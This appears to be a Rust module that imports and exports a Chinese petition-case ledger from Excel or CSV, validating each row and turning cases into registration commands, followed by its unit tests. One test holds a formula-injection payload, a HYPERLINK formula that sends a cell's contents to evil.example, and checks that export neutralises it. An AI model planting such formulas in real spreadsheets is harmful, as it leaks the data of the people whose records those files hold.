//! The ledger (台账) in and out. Coordinators arrive with their cases in Excel; this crate reads
//! such a ledger (XLSX, or CSV in UTF-8 or GBK; columns matched by header name against the
//! template the system offers, the header found below any title rows), validates every row before
//! anything is written — reporting each problem with its row and column — and turns each case
//! (one row per petitioner, rows sharing a case number) into the commands that register the case,
//! assign its leader and set its lead unit. The case id is derived from the case number, so
//! importing the same ledger again finds its cases already there, checks that they still agree
//! with what the system holds, and adds nothing. The same template is how the ledger is exported,
//! so export then import round-trips.

mod checks;
mod compare;
mod existing;
mod export;
mod read;

use checks::{
    check_case_number, check_channel, check_first_filed, check_group_size, check_later_rows,
    check_list_source, check_named, check_place,
};
use compare::{LedgerValues, compare};
pub use existing::{
    Existing, ExistingCase, ExistingPetitioner, OUTSIDE_SCOPE_CASE_NUMBER, OUTSIDE_SCOPE_ID_NUMBER,
};
pub use export::{LedgerRow, table};

use std::collections::hash_map::Entry;
use std::collections::{HashMap, HashSet};
use std::hash::Hash;

use chrono::NaiveDate;
use serde::Serialize;
use uuid::Uuid;
use zhzj_export::{Cell, Table};
use zhzj_proto::Command;
use zhzj_proto::commands::{AssignLeader, RegisterCase, SetResponsibleUnits};
use zhzj_proto::events::{Channel, ListSource, Petitioner};

use read::{RawRow, Value};
pub use zhzj_proto::names::normalize_name;

/// Namespace of the case ids the ledger derives from case numbers.
const LEDGER_NAMESPACE: Uuid = Uuid::from_u128(0x7c1d_02e4_8a6b_4f39_b5d0_3e91_a4c7_2f68);

/// The template's columns, in order; the required ones are marked.
pub const COLUMNS: [(&str, bool); 15] = [
    ("案件编号", true),
    ("信访人姓名", true),
    ("身份证号", false),
    ("联系电话", false),
    ("住址", false),
    ("诉求", true),
    ("类别", true),
    ("区", true),
    ("镇街", false),
    ("信访渠道", true),
    ("首次信访日期", true),
    ("列入方式", true),
    ("涉及人数", false),
    ("包案领导", false),
    ("责任单位", false),
];

/// The columns that describe the case rather than one petitioner: every row of a case carries
/// the same value, or leaves the cell empty.
const CASE_COLUMNS: [&str; 10] = [
    "诉求",
    "类别",
    "区",
    "镇街",
    "信访渠道",
    "首次信访日期",
    "列入方式",
    "涉及人数",
    "包案领导",
    "责任单位",
];

/// Most rows one import takes.
pub const MAX_ROWS: usize = 20_000;

/// A ledger file's format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// An XLSX workbook (the first sheet is read).
    Xlsx,
    /// CSV in UTF-8 (a byte-order mark is allowed) or in GBK / GB18030.
    Csv,
}

/// One problem found in a ledger.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct RowError {
    /// The spreadsheet row, counted from 1 like the spreadsheet does (title rows above the
    /// header included); 0 when the whole file cannot be read.
    pub row: usize,
    /// The column's header, when the problem is in one cell.
    pub column: Option<String>,
    /// What is wrong.
    pub message: String,
}

fn error(row: usize, column: &str, message: impl Into<String>) -> RowError {
    RowError {
        row,
        column: Some(column.to_owned()),
        message: message.into(),
    }
}

/// The directory a ledger is checked against, as the read store has it. Names are matched after
/// [`normalize_name`] on both sides, so the keys may be given as stored.
#[derive(Debug, Clone, Default)]
pub struct Directory {
    /// Districts: name → unit id.
    pub districts: HashMap<String, String>,
    /// Towns: (district id, name) → unit id.
    pub towns: HashMap<(String, String), String>,
    /// Every unit: name → unit ids (more than one when the name is ambiguous).
    pub units: HashMap<String, Vec<String>>,
    /// Leaders: name → leader ids.
    pub leaders: HashMap<String, Vec<String>>,
}

/// A valid case, ready to become commands.
#[derive(Debug, Clone, PartialEq)]
pub struct LedgerCase {
    /// Its first spreadsheet row.
    pub row: usize,
    /// The case id, derived from the case number.
    pub case_id: Uuid,
    /// The registration, with every petitioner in row order.
    pub register: RegisterCase,
    /// The owning leader.
    pub leader_id: Option<String>,
    /// The lead unit.
    pub unit_id: Option<String>,
}

impl LedgerCase {
    /// The commands the case becomes, each with a command id derived from the case, so a retry
    /// of a partly applied import lands each once.
    pub fn commands(&self) -> Vec<(Uuid, Command)> {
        let mut commands = vec![(
            Uuid::new_v5(&self.case_id, b"register"),
            Command::RegisterCase(self.register.clone()),
        )];
        if let Some(leader_id) = &self.leader_id {
            commands.push((
                Uuid::new_v5(&self.case_id, b"leader"),
                Command::AssignLeader(AssignLeader {
                    case_id: self.case_id,
                    leader_id: leader_id.clone(),
                    reason: None,
                }),
            ));
        }
        if let Some(unit_id) = &self.unit_id {
            commands.push((
                Uuid::new_v5(&self.case_id, b"units"),
                Command::SetResponsibleUnits(SetResponsibleUnits {
                    case_id: self.case_id,
                    lead_unit_id: unit_id.clone(),
                    assisting_unit_ids: Vec::new(),
                    handler: None,
                }),
            ));
        }
        commands
    }
}

/// The outcome of checking a ledger.
#[derive(Debug, Clone, PartialEq)]
pub struct Checked {
    /// Cases to import.
    pub cases: Vec<LedgerCase>,
    /// Cases this ledger imported before, found to agree with what the system holds.
    pub already_imported: usize,
}

/// The id of the case a ledger row with this case number registers.
pub fn case_id_for(case_number: &str) -> Uuid {
    Uuid::new_v5(&LEDGER_NAMESPACE, case_number.as_bytes())
}

fn channel(label: &str) -> Option<Channel> {
    [
        Channel::Online,
        Channel::Letter,
        Channel::Visit,
        Channel::Phone,
    ]
    .into_iter()
    .find(|c| c.label() == label)
}

/// The label of a list source in the ledger.
pub fn list_source_label(source: ListSource) -> &'static str {
    match source {
        ListSource::NewPetition => "新发信访",
        ListSource::HandedDown => "上级交办",
        ListSource::Screening => "滚动排查",
    }
}

fn list_source(label: &str) -> Option<ListSource> {
    [
        ListSource::NewPetition,
        ListSource::HandedDown,
        ListSource::Screening,
    ]
    .into_iter()
    .find(|s| list_source_label(*s) == label)
}

fn parse_date(value: &Value) -> Option<NaiveDate> {
    match value {
        Value::Date(d) => Some(*d),
        other => {
            let text = other.text();
            ["%Y-%m-%d", "%Y/%m/%d", "%Y年%m月%d日", "%Y.%m.%d"]
                .iter()
                .find_map(|f| NaiveDate::parse_from_str(&text, f).ok())
        }
    }
}

/// Whether a later row's case-level cell says the same as the case's first row.
fn same_value(column: &str, first: Option<&Value>, later: &Value) -> bool {
    let Some(first) = first else {
        return false;
    };
    match column {
        "区" | "镇街" | "包案领导" | "责任单位" => {
            normalize_name(&first.text()) == normalize_name(&later.text())
        }
        "首次信访日期" => match (parse_date(first), parse_date(later)) {
            (Some(a), Some(b)) => a == b,
            _ => first.text() == later.text(),
        },
        "涉及人数" => match (first.text().parse::<u32>(), later.text().parse::<u32>()) {
            (Ok(a), Ok(b)) => a == b,
            _ => first.text() == later.text(),
        },
        _ => first.text() == later.text(),
    }
}

/// The directory with every name in its normal form, and unit names by id for messages.
struct Lookup {
    districts: HashMap<String, Vec<String>>,
    towns: HashMap<(String, String), Vec<String>>,
    units: HashMap<String, Vec<String>>,
    leaders: HashMap<String, Vec<String>>,
    names: HashMap<String, String>,
}

fn add<K: Eq + Hash>(map: &mut HashMap<K, Vec<String>>, key: K, id: &str) {
    let ids = map.entry(key).or_default();
    if !ids.iter().any(|i| i == id) {
        ids.push(id.to_owned());
    }
}

impl Lookup {
    fn new(directory: &Directory) -> Self {
        let mut lookup = Self {
            districts: HashMap::new(),
            towns: HashMap::new(),
            units: HashMap::new(),
            leaders: HashMap::new(),
            names: HashMap::new(),
        };
        for (name, id) in &directory.districts {
            add(&mut lookup.districts, normalize_name(name), id);
            lookup.names.insert(id.clone(), name.clone());
        }
        for ((district, name), id) in &directory.towns {
            add(
                &mut lookup.towns,
                (district.clone(), normalize_name(name)),
                id,
            );
            lookup.names.insert(id.clone(), name.clone());
        }
        for (pool, into) in [
            (&directory.units, &mut lookup.units),
            (&directory.leaders, &mut lookup.leaders),
        ] {
            for (name, ids) in pool {
                for id in ids {
                    add(into, normalize_name(name), id);
                }
            }
        }
        lookup
    }

    /// A unit's name for a message (its id when the directory does not have it).
    fn name<'a>(&'a self, id: &'a str) -> &'a str {
        self.names.get(id).map_or(id, String::as_str)
    }
}

/// The one id a name stands for in `pool`, or an error at `row` and `column`.
fn unique<K: Eq + Hash>(
    errors: &mut Vec<RowError>,
    (row, column): (usize, &str),
    pool: &HashMap<K, Vec<String>>,
    key: &K,
    name: &str,
    what: &str,
    missing: String,
) -> Option<String> {
    match pool.get(key).map(Vec::as_slice) {
        Some([id]) => Some(id.clone()),
        Some([_, _, ..]) => {
            errors.push(error(
                row,
                column,
                format!("有多个名为“{name}”的{what}，无法确定"),
            ));
            None
        }
        _ => {
            errors.push(error(row, column, missing));
            None
        }
    }
}

/// What became of one case of a ledger.
enum Outcome {
    New(Box<LedgerCase>),
    AlreadyImported,
    Invalid,
}

/// Reads and checks a ledger: every case valid, or every problem found.
pub fn check(
    bytes: &[u8],
    format: Format,
    directory: &Directory,
    existing: &Existing,
    today: NaiveDate,
) -> Result<Checked, Vec<RowError>> {
    let rows = read::read_rows(bytes, format)?;
    let lookup = Lookup::new(directory);
    // Rows sharing a case number are one case, one petitioner a row, in the order each number
    // first appears; a row without a number stands alone (and is reported).
    let mut groups: Vec<Vec<&RawRow>> = Vec::new();
    let mut by_number: HashMap<String, usize> = HashMap::new();
    for raw in &rows {
        let group = match raw.1.get("案件编号").map(Value::text) {
            Some(number) => match by_number.entry(number) {
                Entry::Occupied(at) => groups.get_mut(*at.get()),
                Entry::Vacant(at) => {
                    at.insert(groups.len());
                    None
                }
            },
            None => None,
        };
        match group {
            Some(group) => group.push(raw),
            None => groups.push(vec![raw]),
        }
    }
    let mut errors = Vec::new();
    let mut cases = Vec::new();
    let mut already_imported = 0;
    for group in &groups {
        match check_case(group, &lookup, existing, today, &mut errors) {
            Outcome::New(case) => cases.push(*case),
            Outcome::AlreadyImported => already_imported += 1,
            Outcome::Invalid => {}
        }
    }
    if errors.is_empty() {
        Ok(Checked {
            cases,
            already_imported,
        })
    } else {
        // By row, and within a row in the template's column order.
        errors.sort_by_key(|e| {
            let column = e.column.as_deref().map_or(0, |c| {
                COLUMNS
                    .iter()
                    .position(|(name, _)| *name == c)
                    .map_or(COLUMNS.len() + 1, |i| i + 1)
            });
            (e.row, column)
        });
        Err(errors)
    }
}

/// Checks one case: its first row for the case-level columns, each of its rows for a petitioner,
/// its later rows for agreeing with the first, and, if it was imported before, what the system
/// holds for it.
fn check_case(
    group: &[&RawRow],
    lookup: &Lookup,
    existing: &Existing,
    today: NaiveDate,
    errors: &mut Vec<RowError>,
) -> Outcome {
    let Some(&&(row, ref cells)) = group.first() else {
        return Outcome::Invalid;
    };
    let before = errors.len();
    let text = |column: &str| cells.get(column).map(Value::text);
    let required = |errors: &mut Vec<RowError>, column: &str| {
        let value = text(column);
        if value.is_none() {
            errors.push(error(row, column, format!("“{column}”不能为空")));
        }
        value
    };
    let number = required(errors, "案件编号");
    let case_id = number.as_deref().map(case_id_for);
    check_later_rows(group, errors);
    let (imported_before, stored) = match (&number, case_id) {
        (Some(number), Some(case_id)) => check_case_number(row, number, case_id, existing, errors),
        _ => (false, None),
    };
    let petitioners = check_petitioners(group, number.as_deref(), existing, errors);
    let matter = required(errors, "诉求");
    let category = required(errors, "类别");
    let district_name = required(errors, "区").map(|n| normalize_name(&n));
    let channel_label = required(errors, "信访渠道");
    let first_filed = cells.get("首次信访日期");
    let source_label = required(errors, "列入方式");
    let (district_id, town_id) = check_place(
        row,
        district_name.as_deref(),
        text("镇街").map(|t| normalize_name(&t)),
        lookup,
        existing,
        errors,
    );
    let channel = channel_label
        .as_deref()
        .and_then(|label| check_channel(row, label, errors));
    let list_source = source_label
        .as_deref()
        .and_then(|label| check_list_source(row, label, errors));
    let first_filed_on = check_first_filed(row, first_filed, today, errors);
    let group_size = check_group_size(row, text("涉及人数"), errors);
    let leader_id = check_named((row, cells), "包案领导", &lookup.leaders, "领导", errors);
    let unit_id = check_named((row, cells), "责任单位", &lookup.units, "单位", errors);
    if let (Some(stored), Some(number)) = (stored, &number) {
        let ledger = LedgerValues {
            matter: matter.as_deref(),
            category: category.as_deref(),
            district_id: district_id.as_deref(),
            town_id: town_id.as_ref().map(Option::as_deref),
            channel,
            first_filed_on,
            list_source,
            group_size: group_size.map(|n| n.unwrap_or(1)),
        };
        compare(stored, number, row, &ledger, &petitioners, lookup, errors);
    }
    if errors.len() > before {
        return Outcome::Invalid;
    }
    if imported_before {
        return Outcome::AlreadyImported;
    }
    let (
        Some(case_id),
        Some(number),
        Some(matter),
        Some(category),
        Some(district_id),
        Some(town_id),
        Some(channel),
        Some(first_filed_on),
        Some(list_source),
        Some(group_size),
    ) = (
        case_id,
        number,
        matter,
        category,
        district_id,
        town_id,
        channel,
        first_filed_on,
        list_source,
        group_size,
    )
    else {
        return Outcome::Invalid;
    };
    Outcome::New(Box::new(LedgerCase {
        row,
        case_id,
        register: RegisterCase {
            case_id: Some(case_id),
            case_number: Some(number),
            petitioners: petitioners.into_iter().filter_map(|(_, p)| p).collect(),
            matter,
            category,
            district_id,
            town_id,
            channel,
            first_filed_on,
            list_source,
            group_size,
        },
        leader_id,
        unit_id,
    }))
}

/// Each row's petitioner (None for a row with a problem in its petitioner columns).
fn check_petitioners(
    group: &[&RawRow],
    number: Option<&str>,
    existing: &Existing,
    errors: &mut Vec<RowError>,
) -> Vec<(usize, Option<Petitioner>)> {
    let mut ids_seen: HashMap<String, usize> = HashMap::new();
    let mut petitioners = Vec::with_capacity(group.len());
    for &&(row, ref cells) in group {
        let before = errors.len();
        let text = |column: &str| cells.get(column).map(Value::text);
        let name = text("信访人姓名")
            .map(|n| normalize_name(&n))
            .filter(|n| !n.is_empty());
        if name.is_none() {
            errors.push(error(row, "信访人姓名", "“信访人姓名”不能为空"));
        }
        let id_number = match cells.get("身份证号") {
            Some(Value::Number(_)) => {
                errors.push(error(
                    row,
                    "身份证号",
                    "身份证号须以文本格式填写（数字格式会丢失末位）",
                ));
                None
            }
            Some(value) => {
                let id = value.text().to_ascii_uppercase();
                if !zhzj_proto::ids::is_valid_resident_id(&id) {
                    errors.push(error(
                        row,
                        "身份证号",
                        format!("身份证号 {id} 格式或校验位不正确"),
                    ));
                } else if let Some(first) = ids_seen.get(&id) {
                    errors.push(error(
                        row,
                        "身份证号",
                        format!("身份证号 {id} 与第 {first} 行同一案件的信访人重复"),
                    ));
                } else if let Some(on) = existing.id_numbers.get(&id)
                    && Some(on.as_str()) != number
                {
                    if existing.outside_scope.contains(on) {
                        errors.push(error(row, "身份证号", OUTSIDE_SCOPE_ID_NUMBER));
                    } else {
                        errors.push(error(
                        row,
                        "身份证号",
                        format!("与已有案件 {on} 的信访人身份证号相同，疑似重复（请在该案件上登记重复信访）"),
                    ));
                    }
                }
                ids_seen.entry(id.clone()).or_insert(row);
                Some(id)
            }
            None => None,
        };
        let phone = text("联系电话");
        if let Some(phone) = &phone
            && (phone.len() < 5
                || !phone
                    .chars()
                    .all(|c| c.is_ascii_digit() || matches!(c, '-' | '+' | ' ')))
        {
            errors.push(error(
                row,
                "联系电话",
                format!("联系电话 {phone} 格式不正确"),
            ));
        }
        let petitioner = name
            .filter(|_| errors.len() == before)
            .map(|name| Petitioner {
                name,
                id_number,
                phone,
                address: text("住址"),
            });
        petitioners.push((row, petitioner));
    }
    petitioners
}

#[cfg(test)]
mod tests {
    use super::*;

    fn directory() -> Directory {
        let mut d = Directory::default();
        d.districts.insert("思明区".into(), "xm-siming".into());
        d.districts.insert("湖里区".into(), "xm-huli".into());
        d.towns.insert(
            ("xm-siming".into(), "中华街道".into()),
            "xm-siming-zhonghua".into(),
        );
        d.units
            .insert("市住房局".into(), vec!["xm-dept-zjj".into()]);
        d.leaders.insert("李明".into(), vec!["ldr-1".into()]);
        d.leaders
            .insert("王芳".into(), vec!["ldr-2".into(), "ldr-3".into()]);
        d
    }

    fn today() -> NaiveDate {
        NaiveDate::from_ymd_opt(2026, 3, 2).unwrap_or_default()
    }

    fn date(y: i32, m: u32, d: u32) -> NaiveDate {
        NaiveDate::from_ymd_opt(y, m, d).unwrap_or_default()
    }

    const HEADER: &str = "案件编号,信访人姓名,身份证号,联系电话,住址,诉求,类别,区,镇街,信访渠道,首次信访日期,列入方式,涉及人数,包案领导,责任单位";

    /// Three valid resident ID numbers.
    const ID_1: &str = "350203198001010013";
    const ID_2: &str = "35020319851212002X";
    const ID_3: &str = "35020319900305003X";

    fn check_csv(csv: &str, existing: &Existing) -> Result<Checked, Vec<RowError>> {
        check(csv.as_bytes(), Format::Csv, &directory(), existing, today())
    }

    fn places(errors: &[RowError]) -> Vec<(usize, &str)> {
        errors
            .iter()
            .map(|e| (e.row, e.column.as_deref().unwrap_or("")))
            .collect()
    }

    #[test]
    fn a_valid_row_becomes_three_commands() -> Result<(), Vec<RowError>> {
        let csv = format!(
            "\u{feff}{HEADER}\nTZ-1,张三,11010519491231002X,13800000000,中华路1号,补偿问题,征地拆迁,思明区,中华街道,来访,2025-06-01,滚动排查,3,李明,市住房局\n"
        );
        let checked = check_csv(&csv, &Existing::default())?;
        assert_eq!(checked.cases.len(), 1);
        let case = &checked.cases[0];
        assert_eq!((case.row, case.case_id), (2, case_id_for("TZ-1")));
        assert_eq!(case.commands().len(), 3);
        assert_eq!(case.register.town_id.as_deref(), Some("xm-siming-zhonghua"));
        Ok(())
    }

    #[test]
    fn every_problem_is_reported_with_row_and_column() {
        let csv = format!(
            "{HEADER}\n\
             TZ-1,张三,110105194912310021,,,补偿,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,,\n\
             TZ-2,李四,,,,,征地拆迁,火星区,,来访,2025-06-01,滚动排查,,,\n\
             TZ-3,王五,,12ab,,诉求,征地拆迁,思明区,东方街道,飞鸽,昨天,随便,0,王芳,无此局\n\
             ,赵六,,,,诉求,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,,\n"
        );
        let Err(errors) = check_csv(&csv, &Existing::default()) else {
            panic!("errors expected");
        };
        assert_eq!(
            places(&errors),
            [
                (2, "身份证号"),
                (3, "诉求"),
                (3, "区"),
                (4, "联系电话"),
                (4, "镇街"),
                (4, "信访渠道"),
                (4, "首次信访日期"),
                (4, "列入方式"),
                (4, "涉及人数"),
                (4, "包案领导"),
                (4, "责任单位"),
                (5, "案件编号"),
            ]
        );
    }

    #[test]
    fn a_missing_column_is_named() {
        let Err(errors) = check_csv("案件编号,诉求\n", &Existing::default()) else {
            panic!("errors expected");
        };
        assert!(
            errors
                .iter()
                .any(|e| e.row == 1 && e.column.as_deref() == Some("信访人姓名"))
        );
    }

    /// No ASCII letters: nothing of a parser's English reaches the user.
    fn chinese_only(message: &str) -> bool {
        !message.chars().any(|c| c.is_ascii_alphabetic())
    }

    #[test]
    fn a_gbk_csv_is_read_and_an_unreadable_one_is_answered_in_chinese() -> Result<(), Vec<RowError>>
    {
        let csv = format!(
            "{HEADER}\r\nTZ-1,庄辉珠,{ID_1},,中华路1号,补偿问题,征地拆迁,思明区,中华街道,来访,2025-06-01,滚动排查,,,\r\n"
        );
        let (gbk, _, unmappable) = encoding_rs::GBK.encode(&csv);
        assert!(!unmappable && std::str::from_utf8(&gbk).is_err());
        let checked = check(
            &gbk,
            Format::Csv,
            &directory(),
            &Existing::default(),
            today(),
        )?;
        let register = &checked.cases[0].register;
        assert_eq!(register.petitioners[0].name, "庄辉珠");
        assert_eq!(register.matter, "补偿问题");
        assert_eq!(register.district_id, "xm-siming");

        // Neither UTF-8 nor GB18030 (0xFF never occurs in either).
        let junk = [b"\xff\xfe\xff".as_slice(), csv.as_bytes()].concat();
        let Err(errors) = check(
            &junk,
            Format::Csv,
            &directory(),
            &Existing::default(),
            today(),
        ) else {
            panic!("errors expected");
        };
        assert_eq!(errors.len(), 1);
        assert!(errors[0].message.contains("UTF-8 或 GBK"));
        // Beyond the encodings named, no English.
        assert!(chinese_only(
            &errors[0]
                .message
                .replace("UTF-8", "")
                .replace("GBK", "")
                .replace("CSV", "")
                .replace("XLSX", "")
        ));
        Ok(())
    }

    #[test]
    fn title_rows_above_the_header_keep_the_row_numbers() {
        let rows = format!(
            "TZ-1,张三,{ID_1},,,补偿,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,,\n\
             TZ-2,李四,,,,补偿,征地拆迁,思明区,无此街道,来访,2025-06-01,滚动排查,,,\n\
             \n\
             TZ-3,王五,,,,补偿,征地拆迁,思明区,,来访,2099-01-01,滚动排查,,,\n"
        );
        // A title, a blank row (empty, or cells with nothing), a note, then the header at row 4.
        for blank in ["", ",,,,"] {
            let csv = format!(
                "思明区信访积案台账,,,,,,,,,,,,,,\n{blank}\n填表说明：一名信访人一行\n{HEADER}\n{rows}"
            );
            let Err(errors) = check_csv(&csv, &Existing::default()) else {
                panic!("errors expected");
            };
            assert_eq!(
                places(&errors),
                [(6, "镇街"), (8, "首次信访日期")],
                "{blank:?}"
            );
        }
        // A header with required-markers is a header too.
        let marked = HEADER
            .replace("案件编号", "*案件编号")
            .replace("诉求", "诉求（必填）");
        let csv = format!("思明区信访积案台账\n{marked}\n{rows}");
        let Err(errors) = check_csv(&csv, &Existing::default()) else {
            panic!("errors expected");
        };
        assert_eq!(places(&errors), [(4, "镇街"), (6, "首次信访日期")]);
    }

    #[test]
    fn missing_columns_are_reported_on_the_likeliest_header_row() {
        let header = HEADER.replace("类别", "分类");
        let csv = format!("思明区信访积案台账\n\n{header}\nTZ-1,张三\n");
        let Err(errors) = check_csv(&csv, &Existing::default()) else {
            panic!("errors expected");
        };
        assert_eq!(places(&errors), [(3, "类别")]);
        assert!(errors[0].message.contains("缺少必填列“类别”"));

        // A header below the first ten rows is not looked for.
        let csv = format!("{}{HEADER}\n", "说明\n".repeat(10));
        let Err(errors) = check_csv(&csv, &Existing::default()) else {
            panic!("errors expected");
        };
        assert!(errors.iter().all(|e| e.row == 1));
        assert!(
            errors
                .iter()
                .any(|e| e.column.as_deref() == Some("案件编号"))
        );
    }

    /// A workbook as clerks make them: a merged title row, a blank row, the header at row 3.
    fn workbook(rows: &[[&str; 15]]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        let title = rust_xlsxwriter::Format::new().set_bold();
        sheet.merge_range(0, 0, 0, 14, "思明区信访积案台账", &title)?;
        for (col, (name, _)) in (0u16..).zip(COLUMNS) {
            sheet.write_string(2, col, name)?;
        }
        for (row, cells) in (3u32..).zip(rows) {
            for (col, cell) in (0u16..).zip(cells) {
                if !cell.is_empty() {
                    sheet.write_string(row, col, *cell)?;
                }
            }
        }
        book.save_to_buffer()
    }

    #[test]
    fn an_xlsx_with_a_merged_title_row_is_read_at_its_real_rows()
    -> Result<(), Box<dyn std::error::Error>> {
        let good = [
            "TZ-1",
            "张三",
            ID_1,
            "",
            "",
            "补偿",
            "征地拆迁",
            "思明区",
            "中华街道",
            "来访",
            "2025-06-01",
            "滚动排查",
            "",
            "李明",
            "",
        ];
        let mut bad = good;
        bad[0] = "TZ-2";
        bad[2] = ID_2;
        bad[8] = "无此街道";
        let bytes = workbook(&[good, bad])?;
        let Err(errors) = check(
            &bytes,
            Format::Xlsx,
            &directory(),
            &Existing::default(),
            today(),
        ) else {
            panic!("errors expected");
        };
        assert_eq!(places(&errors), [(5, "镇街")]);

        let bytes = workbook(&[good])?;
        let checked = check(
            &bytes,
            Format::Xlsx,
            &directory(),
            &Existing::default(),
            today(),
        )
        .map_err(|e| format!("{e:?}"))?;
        assert_eq!(checked.cases.len(), 1);
        assert_eq!(checked.cases[0].row, 4);
        assert_eq!(checked.cases[0].leader_id.as_deref(), Some("ldr-1"));
        Ok(())
    }

    #[test]
    fn rows_sharing_a_case_number_are_one_case_with_every_petitioner() -> Result<(), Vec<RowError>>
    {
        let csv = format!(
            "{HEADER}\n\
             TZ-1,张三,{ID_1},13800000000,中华路1号,补偿问题,征地拆迁,思明区,中华街道,来访,2025-06-01,滚动排查,3,李明,市住房局\n\
             TZ-2,赵六,,,,别的诉求,征地拆迁,思明区,,来信,2025-06-02,新发信访,,,\n\
             TZ-1,李四,{ID_2},,中华路2号,,,,,,,,,,\n\
             TZ-1,王五,,,,补偿问题,征地拆迁, 思明区 ,中华街道,来访,2025/6/1,滚动排查,3,李明,市住房局\n"
        );
        let checked = check_csv(&csv, &Existing::default())?;
        assert_eq!(checked.cases.len(), 2);
        let case = &checked.cases[0];
        assert_eq!(case.row, 2);
        let names: Vec<&str> = case
            .register
            .petitioners
            .iter()
            .map(|p| p.name.as_str())
            .collect();
        assert_eq!(names, ["张三", "李四", "王五"]);
        assert_eq!(
            case.register.petitioners[1].id_number.as_deref(),
            Some(ID_2)
        );
        assert_eq!(case.register.group_size, Some(3));
        assert_eq!(case.commands().len(), 3);
        assert_eq!(checked.cases[1].register.petitioners.len(), 1);
        Ok(())
    }

    #[test]
    fn rows_of_one_case_must_agree_and_not_repeat_a_petitioner() {
        let csv = format!(
            "{HEADER}\n\
             TZ-1,张三,{ID_1},,,补偿问题,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,李明,\n\
             TZ-1,李四,{ID_1},,,补偿问题,,湖里区,,,2025-06-01,,,,\n\
             TZ-1,王五,,,,另一个诉求,,,中华街道,,2025-06-02,,2,王芳,\n"
        );
        let Err(errors) = check_csv(&csv, &Existing::default()) else {
            panic!("errors expected");
        };
        assert_eq!(
            places(&errors),
            [
                (3, "身份证号"),
                (3, "区"),
                (4, "诉求"),
                (4, "镇街"),
                (4, "首次信访日期"),
                (4, "涉及人数"),
                (4, "包案领导"),
            ]
        );
        assert!(errors[1].message.contains("与第 2 行同一案件的“区”不一致"));
        assert!(errors[0].message.contains("与第 2 行同一案件的信访人重复"));
    }

    fn three_petitioners() -> Vec<Petitioner> {
        [("张三", ID_1), ("李四", ID_2), ("王五", ID_3)]
            .into_iter()
            .enumerate()
            .map(|(i, (name, id))| Petitioner {
                name: name.into(),
                id_number: Some(id.into()),
                phone: (i != 1).then(|| format!("1380000000{i}")),
                address: Some(format!("中华路{i}号，3 单元")),
            })
            .collect()
    }

    fn exported() -> LedgerRow {
        LedgerRow {
            case_number: "XF20250601-0001".into(),
            petitioners: three_petitioners(),
            matter: "要求解决房屋征收补偿问题".into(),
            category: "征地拆迁".into(),
            district: "思明区".into(),
            town: Some("中华街道".into()),
            channel: Some(Channel::Visit),
            first_filed_on: Some(date(2025, 6, 1)),
            list_source: Some(ListSource::Screening),
            group_size: Some(3),
            leader: Some("李明".into()),
            lead_unit: Some("市住房局".into()),
        }
    }

    #[test]
    fn an_exported_case_with_three_petitioners_imports_back_the_same()
    -> Result<(), Box<dyn std::error::Error>> {
        let table = table(&[exported()]);
        assert_eq!(table.rows.len(), 3);
        let created = date(2026, 3, 2).and_hms_opt(9, 0, 0).unwrap_or_default();
        for (bytes, format) in [
            (zhzj_export::to_csv(&table)?, Format::Csv),
            (
                zhzj_export::to_xlsx(std::slice::from_ref(&table), created)?,
                Format::Xlsx,
            ),
        ] {
            let checked = check(&bytes, format, &directory(), &Existing::default(), today())
                .map_err(|e| format!("{e:?}"))?;
            assert_eq!(checked.cases.len(), 1, "{format:?}");
            let case = &checked.cases[0];
            assert_eq!(case.register.petitioners, three_petitioners(), "{format:?}");
            assert_eq!(case.register.group_size, Some(3));
            assert_eq!(case.register.first_filed_on, date(2025, 6, 1));
            assert_eq!(case.leader_id.as_deref(), Some("ldr-1"));
            assert_eq!(case.unit_id.as_deref(), Some("xm-dept-zjj"));
        }
        Ok(())
    }

    #[test]
    fn a_formula_like_matter_is_exported_as_text_and_imports_back_the_same()
    -> Result<(), Box<dyn std::error::Error>> {
        let mut row = exported();
        row.matter = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")".into();
        let table = table(std::slice::from_ref(&row));
        let bytes = zhzj_export::to_csv(&table)?;
        assert!(
            String::from_utf8(bytes.clone())?.contains("\"'=HYPERLINK("),
            "the exported cell opens as text"
        );
        let checked = check(
            &bytes,
            Format::Csv,
            &directory(),
            &Existing::default(),
            today(),
        )
        .map_err(|e| format!("{e:?}"))?;
        assert_eq!(checked.cases[0].register.matter, row.matter);
        Ok(())
    }

    /// What the system holds after importing [`exported`].
    fn imported() -> Existing {
        let number = "XF20250601-0001".to_owned();
        let mut existing = Existing::default();
        existing
            .case_numbers
            .insert(number.clone(), case_id_for(&number).to_string());
        for p in three_petitioners() {
            if let Some(id) = p.id_number {
                existing.id_numbers.insert(id, number.clone());
            }
        }
        existing.cases.insert(
            number,
            ExistingCase {
                petitioners: three_petitioners().iter().map(Into::into).collect(),
                matter: "要求解决房屋征收补偿问题".into(),
                category: "征地拆迁".into(),
                district_id: "xm-siming".into(),
                town_id: Some("xm-siming-zhonghua".into()),
                channel: Channel::Visit,
                first_filed_on: date(2025, 6, 1),
                list_source: ListSource::Screening,
                group_size: 3,
            },
        );
        existing
    }

    fn exported_csv(rows: &[LedgerRow]) -> Result<String, Box<dyn std::error::Error>> {
        Ok(String::from_utf8(zhzj_export::to_csv(&table(rows))?)?)
    }

    #[test]
    fn a_case_imported_before_that_still_agrees_is_counted_not_added()
    -> Result<(), Box<dyn std::error::Error>> {
        // Leader and unit may have changed since; that is no difference.
        let mut row = exported();
        row.leader = None;
        let checked =
            check_csv(&exported_csv(&[row])?, &imported()).map_err(|e| format!("{e:?}"))?;
        assert_eq!((checked.cases.len(), checked.already_imported), (0, 1));
        Ok(())
    }

    #[test]
    fn a_duplicate_outside_the_importers_area_names_no_case()
    -> Result<(), Box<dyn std::error::Error>> {
        let mut existing = imported();
        existing.outside_scope.insert("XF20250601-0001".into());
        // The same case number: taken, by whom is not said.
        let Err(errors) = check_csv(&exported_csv(&[exported()])?, &existing) else {
            panic!("errors expected");
        };
        assert!(
            errors
                .iter()
                .any(|e| e.message == OUTSIDE_SCOPE_CASE_NUMBER),
            "{errors:?}"
        );
        // Another number, the same petitioners: a duplicate somewhere else, not named.
        let mut row = exported();
